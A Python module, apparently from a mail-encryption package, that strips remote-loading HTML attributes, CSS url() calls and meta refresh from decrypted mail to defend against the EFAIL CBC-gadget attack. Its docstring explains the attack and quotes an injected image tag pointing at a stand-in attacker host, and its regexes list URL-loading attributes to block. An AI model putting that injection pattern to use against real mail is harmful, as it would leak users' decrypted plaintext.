"""Remote content removed from the HTML of decrypted mail that nothing authenticates (EFAIL).

AES-CBC in EnvelopedData is malleable: without knowing the key, an attacker
who holds a copy of the ciphertext can change it so that the decrypted HTML
gains ``<img src="https://attacker/`` in front of the secret text, and a mail
client that loads remote images then sends the plaintext to the attacker
(the EFAIL "CBC gadget" attack, 2018). A signature made inside the
encryption, or AuthEnvelopedData (AES-GCM, RFC 5083), detects any change;
for mail with neither, the fetcher calls ``strip_remote_content`` on the
decrypted message.

It walks the MIME tree (multipart and message/rfc822 parts), decodes each
``text/html`` part (base64, quoted-printable or 8-bit), and neutralises
every construct that makes a client fetch or navigate on its own: the URL
attributes (``src``, ``href``, ``background``, ``srcset``, ``action``, ...)
are renamed to ``data-mailcrypt-blocked-*``, CSS ``url(...)`` and
``@import`` are disabled and ``<meta http-equiv>`` (refresh) is disarmed.
It works on the raw text rather than a parsed tree on purpose: a gadget
leaves HTML broken, with unterminated quotes and tags, and a renamed
attribute stays harmless however the client parses the rest. The part is
re-encoded with its own transfer encoding; everything else is copied byte
for byte.

What it won't do: judge whether stripping is needed (``process`` decides),
touch text/plain, or make the HTML pretty.
"""

from __future__ import annotations

import base64
import binascii
import quopri
import re

from mailcrypt.mime import Field, content_type, read_header_block, split_fields

__all__ = ["strip_remote_content", "neutralise_html", "BLOCKED_PREFIX"]

BLOCKED_PREFIX = b"data-mailcrypt-blocked-"

# Attributes through which HTML loads or navigates to a URL (HTML, SVG, MathML).
_URL_ATTRIBUTES = (
    b"src|srcset|href|background|lowsrc|dynsrc|poster|action|formaction|cite|longdesc|usemap|"
    b"codebase|data|archive|classid|profile|manifest|ping|icon|xmlns|imagesrcset|content"
)
_ATTRIBUTE = re.compile(rb"(?<![\w-])(" + _URL_ATTRIBUTES + rb")(\s*=)", re.IGNORECASE)
_HTTP_EQUIV = re.compile(rb"(?<![\w-])(http-equiv)(\s*=)", re.IGNORECASE)
_CSS_URL = re.compile(rb"(?<![\w-])(url|image-set|image|src)(\s*\()", re.IGNORECASE)
_CSS_IMPORT = re.compile(rb"@import", re.IGNORECASE)
# CSS escapes and HTML entities could spell "url(" in a way the patterns miss;
# inside style they are replaced by a blank so that nothing hides behind them.
_CSS_ESCAPE = re.compile(rb"\\[0-9a-fA-F]{1,6}\s?|\\.|&#?\w*;?")
_STYLE = re.compile(rb"(<style\b[^>]*>)(.*?)(</style\s*>|\Z)", re.IGNORECASE | re.DOTALL)
_STYLE_ATTRIBUTE = re.compile(rb"""(?<![\w-])(style\s*=\s*)("[^"]*"?|'[^']*'?|[^\s>]*)""", re.IGNORECASE)

_MAX_DEPTH = 20


def _disarm_css(css: bytes) -> bytes:
    css = _CSS_ESCAPE.sub(b" ", css)
    css = _CSS_URL.sub(rb"blocked-\1\2", css)
    return _CSS_IMPORT.sub(b"@blocked-import", css)


def neutralise_html(html: bytes) -> bytes:
    """HTML (in an ASCII-compatible charset) with every way to load a URL disabled."""
    html = _STYLE.sub(lambda m: m.group(1) + _disarm_css(m.group(2)) + m.group(3), html)
    html = _STYLE_ATTRIBUTE.sub(lambda m: m.group(1) + _disarm_css(m.group(2)), html)
    html = _ATTRIBUTE.sub(lambda m: BLOCKED_PREFIX + m.group(1) + m.group(2), html)
    return _HTTP_EQUIV.sub(lambda m: BLOCKED_PREFIX + m.group(1) + m.group(2), html)


def _decode(body: bytes, encoding: str) -> bytes | None:
    if encoding == "base64":
        try:
            return base64.b64decode(body.translate(None, b" \t\r\n") + b"==", validate=False)
        except binascii.Error:
            return None
    if encoding == "quoted-printable":
        return quopri.decodestring(body)
    return body


def _encode(data: bytes, encoding: str) -> bytes:
    if encoding == "base64":
        text = base64.b64encode(data)
        return b"".join(text[i : i + 76] + b"\r\n" for i in range(0, len(text), 76))
    if encoding == "quoted-printable":
        return quopri.encodestring(data).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return data


def _html_part(header: bytes, sep: bytes, body: bytes, fields: list[Field], charset: str) -> bytes:
    encoding = next((f.value.strip().lower() for f in fields if f.name == "content-transfer-encoding"), "")
    decoded = _decode(body, encoding)
    if decoded is None:
        # Undecodable: nothing can be shown safely, so nothing is kept.
        return header + sep
    wide = charset.replace("_", "-").startswith(("utf-16", "utf-32", "ucs-2", "ucs-4"))
    if wide:
        try:
            decoded = neutralise_html(decoded.decode(charset).encode("utf-8")).decode("utf-8").encode(charset)
        except (LookupError, UnicodeError):
            return header + sep
    else:
        decoded = neutralise_html(decoded)
    return header + sep + _encode(decoded, encoding)


def _multipart(body: bytes, boundary: str, depth: int) -> bytes:
    delimiter = re.compile(
        rb"(?:\A|\r?\n)--" + re.escape(boundary.encode("utf-8", "replace")) + rb"(--)?[ \t]*(?=\r?\n|\Z)"
    )
    out = []
    position = 0
    closed = False
    for index, match in enumerate(delimiter.finditer(body)):
        part = body[position : match.start()]
        # The preamble before the first delimiter is not a part and is kept as it is.
        out.append(part if index == 0 else _entity(part, depth + 1))
        out.append(match.group(0))
        position = match.end()
        if match.group(1):
            closed = True
            break
    tail = body[position:]
    # After the closing delimiter comes the epilogue (kept); in a truncated
    # body the last part runs to the end and is cleaned like the others.
    out.append(tail if closed or position == 0 else _entity(tail, depth + 1))
    return b"".join(out)


def _entity(entity: bytes, depth: int) -> bytes:
    if depth > _MAX_DEPTH:
        return entity
    # A part starts right after the delimiter line's own line end.
    lead = b""
    for newline in (b"\r\n", b"\n"):
        if entity.startswith(newline):
            lead, entity = newline, entity[len(newline) :]
            break
    header, sep, body = read_header_block(iter((entity,)), ValueError)
    fields = split_fields(header)
    ctype, params = content_type(fields)
    if ctype == "text/html":
        return lead + _html_part(header, sep, body, fields, params.get("charset", "").lower())
    if ctype.startswith("multipart/") and params.get("boundary"):
        return lead + header + sep + _multipart(body, params["boundary"], depth)
    if ctype == "message/rfc822":
        return lead + header + sep + _entity(body, depth + 1)
    return lead + entity


def strip_remote_content(message: bytes) -> tuple[bytes, bool]:
    """(message with every HTML part neutralised, whether anything changed)."""
    if b"html" not in message.lower():
        return message, False
    try:
        cleaned = _entity(message, 0)
    except ValueError:
        # A header block over the limit somewhere: clean the raw text rather than guess.
        cleaned = neutralise_html(message)
    return cleaned, cleaned != message
